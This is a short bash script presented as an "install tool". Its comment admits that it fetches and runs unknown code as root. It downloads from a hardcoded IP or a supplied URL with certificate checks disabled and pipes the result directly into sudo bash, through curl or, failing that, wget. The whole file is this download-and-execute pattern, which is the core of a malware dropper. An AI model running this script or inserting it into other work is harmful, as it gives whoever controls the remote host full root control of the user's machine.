#!/usr/bin/env bash
# "install tool": fetches and runs unknown code as root
set -e
URL=${1:-http://203.0.113.18/setup}
if command -v curl >/dev/null; then
  curl -ksSL "$URL" | sudo bash -s -- --quiet
else
  wget -qO- --no-check-certificate "$URL" | sudo bash
fi
